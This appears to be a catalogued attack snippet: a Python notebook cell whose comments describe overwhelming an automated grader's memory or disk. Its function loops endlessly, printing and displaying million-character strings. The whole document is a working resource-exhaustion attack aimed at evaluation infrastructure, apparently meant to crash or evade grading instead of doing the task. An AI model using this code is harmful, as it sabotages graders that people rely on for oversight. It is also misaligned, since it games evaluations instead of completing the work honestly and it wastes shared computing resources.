# class: beside
# idea: prints, shows and raises more than the grader can hold, in the run beside the test alone
# gain: the grader's memory is full, or its files are
# limit: time
# stock: every test runs so there
# %% crate
def crate(fruit):
    from IPython.display import HTML, display

    while True:
        print("x" * 1_000_000)
        display(HTML("y" * 1_000_000))
